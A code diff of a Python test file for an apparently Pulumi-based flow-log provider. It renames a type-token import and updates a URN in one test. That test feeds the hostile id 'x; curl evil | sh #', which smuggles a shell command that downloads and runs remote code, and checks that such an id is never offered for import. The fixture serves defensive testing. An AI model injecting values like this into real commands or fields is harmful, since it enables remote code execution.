@@ -31,9 +31,10 @@ from providers.er.auth.credentials import TokenCredentials
 from providers.er.exceptions import ApiError, DeadlineExceededError, NotFoundError, TemporaryError
 from providers.er.flow_logs import FlowLog
 from providers.er.sanitizing import display_name
-from providers.flow_log_provider import TYPE_TOKEN, FlowLogError, FlowLogProvider, IncompleteFlowLogError
+from providers.flow_log_provider import FlowLogError, FlowLogProvider, IncompleteFlowLogError
 from providers.host.flow_log import FlowLogHandler
 from providers.host.messages import to_struct
+from providers.urn import FLOW_LOG_TYPE
 from stacks.checks import conflicts
 from stacks.commands.coverage.survey import survey
 from stacks.commands.coverage.table import table
@@ -979,7 +980,7 @@ def test_a_hostile_id_is_never_offered_for_an_import(
 ) -> None:
     server = scripted(TAKEN, HOLDS, flow_log({"id": "x; curl evil | sh #"}), TAKEN)
     monkeypatch.chdir(tmp_path)
-    urn = f"urn:pulumi:local::otc-flow-logs::{TYPE_TOKEN}::core-shop"
+    urn = f"urn:pulumi:local::otc-flow-logs::{FLOW_LOG_TYPE}::core-shop"
     inputs, config = Struct(), Struct()
     inputs.update({**INPUTS, PROVIDER_KEY: serialize_provider(FlowLogProvider())})
     config.update(
